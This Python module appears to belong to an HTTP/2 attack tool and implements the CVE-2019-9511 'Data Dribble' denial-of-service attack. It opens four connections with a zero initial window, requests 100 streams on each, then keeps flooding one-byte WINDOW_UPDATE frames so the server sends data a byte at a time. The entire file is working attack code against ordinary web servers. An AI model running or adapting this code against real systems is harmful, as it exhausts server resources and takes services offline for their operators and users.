"""Downloads of a byte at a time: windows are opened by one byte again and again (CVE-2019-9511)."""

import struct

from wire.http2 import INITIAL_WINDOW, WINDOW_UPDATE, ask, frame, http2, settings

ONE = struct.pack(">I", 1)


async def attack(target):
    burst = b"".join(frame(WINDOW_UPDATE, 0, 2 * n + 1, ONE) for n in range(100)) * 10

    async def lane(number):
        async with http2(target, target.source(number), first=settings((INITIAL_WINDOW, 0))) as it:
            if it:
                await it.send(b"".join(ask(2 * n + 1) for n in range(100)))
            while it and target.goes_on():
                await it.send(burst)

    await target.lanes(4, lane)
